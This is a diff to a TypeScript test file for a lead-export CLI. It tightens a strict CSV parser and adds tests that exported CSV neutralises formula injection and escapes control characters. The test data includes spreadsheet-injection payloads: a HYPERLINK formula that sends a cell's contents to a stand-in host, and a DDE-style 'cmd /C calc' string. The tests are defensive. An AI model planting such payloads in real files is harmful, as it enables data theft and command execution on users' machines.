@@ -19,16 +19,28 @@ function leadctl(args: readonly string[], env: Record<string, string>): Promise<
   });
 }
 
-/** A strict RFC 4180 reader (CRLF records, quoted fields with doubled quotes), to check what the export wrote. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
+/** A field as read, with whether it was enclosed in double quotes (an empty string is, a null is not). */
+interface CsvCell {
+  readonly text: string;
+  readonly quoted: boolean;
+}
+
+/**
+ * A strict RFC 4180 reader (CRLF records, quoted fields with doubled quotes, nothing after a
+ * closing quote but a comma or CRLF), to check what the export wrote.
+ */
+function parseCsvCells(text: string): CsvCell[][] {
+  const rows: CsvCell[][] = [];
+  let row: CsvCell[] = [];
   let cell = '';
+  let quoted = false;
   let index = 0;
   while (index < text.length) {
-    if (text[index] === '"') {
+    if (text[index] === '"' && cell === '' && !quoted) {
+      quoted = true;
       index += 1;
       for (;;) {
+        if (index >= text.length) throw new Error('unterminated quoted field');
         if (text[index] === '"' && text[index + 1] === '"') {
           cell += '"';
           index += 2;
@@ -36,21 +48,23 @@ function parseCsv(text: string): string[][] {
           index += 1;
           break;
         } else {
-          if (index >= text.length) throw new Error('unterminated quoted field');
           cell += text[index];
           index += 1;
         }
       }
+      if (index < text.length && text[index] !== ',' && !text.startsWith('\r\n', index)) throw new Error(`text after a closing quote at ${index}`);
     }
     if (text.startsWith('\r\n', index)) {
-      row.push(cell);
+      row.push({ text: cell, quoted });
       rows.push(row);
       row = [];
       cell = '';
+      quoted = false;
       index += 2;
     } else if (text[index] === ',') {
-      row.push(cell);
+      row.push({ text: cell, quoted });
       cell = '';
+      quoted = false;
       index += 1;
     } else if (index < text.length) {
       if (text[index] === '"' || text[index] === '\r' || text[index] === '\n') throw new Error(`bare ${JSON.stringify(text[index])} at ${index}`);
@@ -58,8 +72,12 @@ function parseCsv(text: string): string[][] {
       index += 1;
     }
   }
-  if (cell !== '' || row.length > 0) throw new Error('last record not ended with CRLF');
+  if (cell !== '' || quoted || row.length > 0) throw new Error('last record not ended with CRLF');
   return rows;
+}
+
+function parseCsv(text: string): string[][] {
+  return parseCsvCells(text).map((row) => row.map((cell) => cell.text));
 }
 
 describe('leadctl leads export and events replay (local, a few thousand leads)', () => {
@@ -241,5 +259,96 @@ describe('leadctl leads backfill-export', () => {
     expect(JSON.parse(backfilled.stdout)).toMatchObject({ updated: 30 });
     expect(after.stdout.split('\n').filter(Boolean).map((line) => JSON.parse(line).lead_id)).toEqual(old.map((lead) => lead.leadId));
     expect(JSON.parse(again.stdout)).toMatchObject({ updated: 0 });
+  });
+});
+
+describe('leadctl leads export --format csv with hostile values', () => {
+  let table: TestTable;
+  let dataDir: string;
+  let env: Record<string, string>;
+  let campaignId: string;
+  const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
+  const HOSTILE = ['a "quoted", comma', 'line one\r\nline two\nline three\rend', 'nul\u0000inside', 'bell\u0007 and escape\u001b[31m and del\u007f and c1\u0085', 'ünïcødé ✓ 💥 \u2028 قيمة', "'already quoted", ' =spaced'];
+  const lead: Lead = {
+    leadId: 'lead_hostile01',
+    supplierId: 'sup_a',
+    campaignId: 'placeholder',
+    status: 'ACCEPTED',
+    isTest: false,
+    createdAt: '2026-11-25T10:00:00.000Z',
+    fields: {},
+  };
+
+  beforeAll(async () => {
+    table = await createTestTable('leads-csv');
+    dataDir = mkdtempSync(join(tmpdir(), 'leads-csv-'));
+    env = { DYNAMODB_PORT: new URL(table.endpoint).port, LOCAL_TABLE_NAME: table.tableName, LOCAL_DATA_DIR: dataDir };
+    campaignId = (await adminService(table.db, table.tableName).createCampaign('Hostile')).campaignId;
+    const fields: Record<string, string | number | boolean | null> = { empty: '', nothing: null, negative: -5, flag: true };
+    FORMULAS.forEach((value, index) => (fields[`formula${index}`] = value));
+    HOSTILE.forEach((value, index) => (fields[`hostile${index}`] = value));
+    // A field stored before ingest reserved the export's column names.
+    fields.lead_id = 'spoofed';
+    const other: Lead = { ...lead, leadId: 'lead_hostile02', createdAt: '2026-11-25T11:00:00.000Z', fields: { absent_elsewhere: 'x' } };
+    const items = [{ ...lead, campaignId, fields }, { ...other, campaignId }].map((item) => ({ PutRequest: { Item: leadItem(item) } }));
+    await table.db.send(new BatchWriteCommand({ RequestItems: { [table.tableName]: items } }));
+  });
+  afterAll(async () => {
+    await table.drop();
+    rmSync(dataDir, { recursive: true, force: true });
+  });
+
+  async function exportCsv(...extra: string[]): Promise<{ header: string[]; rows: Map<string, CsvCell>[]; stdout: string }> {
+    const result = await leadctl(['leads', 'export', '--campaign', campaignId, '--since', '2026-11-20', '--format', 'csv', ...extra], env);
+    expect(result.status).toBe(0);
+    const [header, ...rows] = parseCsvCells(result.stdout);
+    const names = header.map((cell) => cell.text);
+    return { header: names, rows: rows.map((row) => new Map(row.map((cell, index) => [names[index], cell]))), stdout: result.stdout };
+  }
+
+  it('puts a \' before every formula-like start by default, and writes the text as stored with --raw', async () => {
+    const safe = await exportCsv();
+    const raw = await exportCsv('--raw');
+
+    FORMULAS.forEach((value, index) => {
+      expect(safe.rows[0].get(`formula${index}`)?.text).toBe(`'${value}`);
+      expect(raw.rows[0].get(`formula${index}`)?.text).toBe(value);
+    });
+    // A number is never a formula; text that merely contains = or starts with ' is left alone.
+    expect([safe.rows[0].get('negative')?.text, safe.rows[0].get('flag')?.text]).toEqual(['-5', 'true']);
+    expect(safe.rows[0].get('hostile5')?.text).toBe("'already quoted");
+    expect(safe.rows[0].get('hostile6')?.text).toBe(' =spaced');
+  });
+
+  it('parses under a strict RFC 4180 reader: quotes, commas, CR/LF and unicode come back as stored, control characters as \\uXXXX text', async () => {
+    const { rows, stdout } = await exportCsv('--raw');
+
+    expect(stdout).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
+    const cell = (name: string) => rows[0].get(name)?.text;
+    expect(cell('hostile0')).toBe(HOSTILE[0]);
+    expect(cell('hostile1')).toBe(HOSTILE[1]);
+    expect(cell('hostile2')).toBe('nul\\u0000inside');
+    expect(cell('hostile3')).toBe('bell\\u0007 and escape\\u001b[31m and del\\u007f and c1\\u0085');
+    expect(cell('hostile4')).toBe(HOSTILE[4]);
+  });
+
+  it('writes null and absent as an empty field and an empty string as "", and never names a column twice', async () => {
+    const { header, rows } = await exportCsv();
+
+    expect(rows[0].get('nothing')).toEqual({ text: '', quoted: false });
+    expect(rows[1].get('nothing')).toEqual({ text: '', quoted: false });
+    expect(rows[0].get('empty')).toEqual({ text: '', quoted: true });
+    expect(new Set(header.map((name) => name.toLowerCase())).size).toBe(header.length);
+    expect(header.slice(0, 5)).toEqual(['lead_id', 'campaign_id', 'supplier_id', 'created_at', 'is_test']);
+    expect(rows[0].get('lead_id')?.text).toBe('lead_hostile01');
+    expect(rows[0].get('lead_id (field)')?.text).toBe('spoofed');
+  });
+
+  it('refuses --raw without --format csv', async () => {
+    const result = await leadctl(['leads', 'export', '--campaign', campaignId, '--since', '2026-11-20', '--raw'], env);
+
+    expect(result.status).toBe(2);
+    expect(result.stdout).toBe('');
+    expect(result.stderr).toContain('--raw applies to --format csv only');
   });
 });
